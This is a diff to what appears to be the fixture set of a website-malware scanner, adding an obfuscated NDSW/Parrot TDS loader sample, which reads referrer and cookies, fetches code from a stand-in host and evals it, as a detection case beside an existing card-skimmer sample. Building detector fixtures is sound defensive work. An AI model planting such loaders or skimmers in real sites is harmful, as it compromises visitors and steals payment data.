@@ -274,6 +274,30 @@ SKIM_JQUERY_AJAX = (
     "'https://flightpay-gateway.test/gateway/app/dataprocessing/api/',data:t,dataType:"
     "'application/json'})},500)})};</script>")
 
+# the loader's zqxq form, found appended to real theme scripts: an `_0x` table whose words
+# are cut in pieces ('refer'+'rer'), read through objects of indexes
+# (`_0x2b3c(_0x1a2b._0x4d5e)`, javascript-obfuscator's calls transform)
+NDSW_INDEXED = (
+    "<script>;if(typeof zqxq===undefined){(function(_0xa1b2c3,_0xd4e5f6){var _0x1a2b3c={"
+    "_0x4d5e6f:0x90},_0x2b3c4d=_0x3c4d5e,_0x3d4e5f=_0xa1b2c3();while(!![]){try{var _0x5e6f7a="
+    "parseInt(_0x2b3c4d(_0x1a2b3c._0x4d5e6f))/0x1;if(_0x5e6f7a===_0xd4e5f6)break;else _0x3d4e5f["
+    "'push'](_0x3d4e5f['shift']());}catch(_0x6f7a8b){_0x3d4e5f['push'](_0x3d4e5f['shift']());}}}("
+    "_0x4e5f6a,0x1c8));function _0x3c4d5e(_0x7a8b9c,_0x8b9c0d){var _0x9c0d1e=_0x4e5f6a();return "
+    "_0x3c4d5e=function(_0x0d1e2f,_0x1e2f3a){_0x0d1e2f=_0x0d1e2f-0x90;var _0x2f3a4b=_0x9c0d1e["
+    "_0x0d1e2f];return _0x2f3a4b;},_0x3c4d5e(_0x7a8b9c,_0x8b9c0d);}function _0x4e5f6a(){var "
+    "_0x3a4b5c=['456xYz','refer','rer','cooki','e','respo','nseTe','xt','eval','//www.lakeside-"
+    "bakery.test/wp-content/plugins/contact-form-7/includes/js/jquery.php','?id=','qwzx','GET',"
+    "'open','send'];_0x4e5f6a=function(){return _0x3a4b5c;};return _0x4e5f6a();}var zqxq=!![];("
+    "function(){var _0x5b6c7d={_0x6c7d8e:0x91,_0x7d8e9f:0x92,_0x8e9f0a:0x93,_0x9f0a1b:0x94},"
+    "_0x0a1b2c=_0x3c4d5e,_0x1b2c3d=document,_0x2c3d4e=window,_0x3d4e5f2=_0x1b2c3d[_0x0a1b2c("
+    "_0x5b6c7d._0x6c7d8e)+_0x0a1b2c(_0x5b6c7d._0x7d8e9f)],_0x4e5f6a7=_0x1b2c3d[_0x0a1b2c("
+    "_0x5b6c7d._0x8e9f0a)+_0x0a1b2c(_0x5b6c7d._0x9f0a1b)];if(_0x3d4e5f2&&!_0x4e5f6a7){var "
+    "_0x5f6a7b=new XMLHttpRequest();_0x5f6a7b[_0x0a1b2c(0x9d)](_0x0a1b2c(0x9c),location.protocol+"
+    "_0x0a1b2c(0x99)+_0x0a1b2c(0x9a)+Math.random(),!![]);_0x5f6a7b.onload=function(){var "
+    "_0x6a7b8c=_0x5f6a7b[_0x0a1b2c(0x95)+_0x0a1b2c(0x96)+_0x0a1b2c(0x97)];_0x6a7b8c['indexOf']("
+    "_0x0a1b2c(0x9b))!==-0x1&&_0x2c3d4e[_0x0a1b2c(0x98)](_0x6a7b8c);};_0x5f6a7b[_0x0a1b2c(0x9e)]("
+    "null);}}());};</script>")
+
 # what one script hands the next, as the browser runs them in one scope: ndsw's string
 # table in one script and its loader in the next; Balada's char-coded address kept in a
 # name for the loader after it; a redirect kit's rule in a settings script
@@ -291,6 +315,8 @@ KIT_RULE = (
     "_rdr.u;}</script>")
 
 FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
+    ("ndsw's zqxq form: its table's words cut, read through objects of indexes, wp_footer",
+     {"footer": NDSW_INDEXED}, ("tds-loader", H)),
     ("ndsw / Parrot TDS, its string table one script before its loader, wp_footer",
      {"footer": NDSW_SPLIT}, ("tds-loader", H)),
     ("Balada char-code address in one script, its loader in the next, head",
